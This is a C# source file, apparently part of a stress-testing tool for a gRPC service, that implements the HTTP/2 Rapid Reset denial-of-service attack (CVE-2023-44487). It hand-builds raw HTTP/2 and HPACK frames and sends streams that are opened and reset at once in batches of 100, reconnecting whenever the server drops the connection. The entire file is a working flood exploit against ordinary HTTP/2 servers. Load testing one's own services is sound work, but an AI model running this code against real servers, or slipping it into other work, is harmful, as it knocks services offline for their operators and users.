using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;
using Attention.Stress.Clients;

namespace Attention.Stress.Attacks;

/// <summary>Opens streams of HTTP/2 and resets each at once, so that none counts as open (CVE-2023-44487).</summary>
internal static class RapidResets
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte EndHeaders = 4;
    private const int PerWrite = 100;

    /// <summary>Connects again whenever the server has had enough of a connection.</summary>
    /// <returns><see cref="Tally.Left"/>: nobody waits for an answer.</returns>
    public static async Task<int> SendAsync(Uri server, string method, int streams, CancellationToken cancellationToken)
    {
        var block = Block($"/attention.v1.{method}");
        for (var sent = 0; sent < streams;)
        {
            using var connection = await RawConnection.OpenAsync(server, cancellationToken);
            try
            {
                await connection.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])], cancellationToken);
                for (var first = 0; sent < streams; first += PerWrite, sent += PerWrite)
                {
                    await connection.WriteAsync(Pairs(block, first), cancellationToken);
                }
            }
            catch (SocketException)
            {
                sent += PerWrite;
            }
        }

        return Tally.Left;
    }

    private static byte[] Pairs(byte[] block, int first) => [.. Enumerable.Range(first, PerWrite).SelectMany(number =>
        (IEnumerable<byte>)[.. Frame(Headers, EndHeaders, (2 * number) + 1, block), .. Frame(Reset, 0, (2 * number) + 1, [0, 0, 0, 8])])];

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    // HPACK: POST and http by their index in the static table, path, authority, content-type and te as literals.
    private static byte[] Block(string path) => [0x83, 0x86, .. Literal(4, path), .. Literal(1, "localhost"), 0x0F, 0x10, .. Text("application/grpc"), 0x00, .. Text("te"), .. Text("trailers")];

    private static byte[] Literal(byte name, string value) => [name, .. Text(value)];

    private static byte[] Text(string value) => [(byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
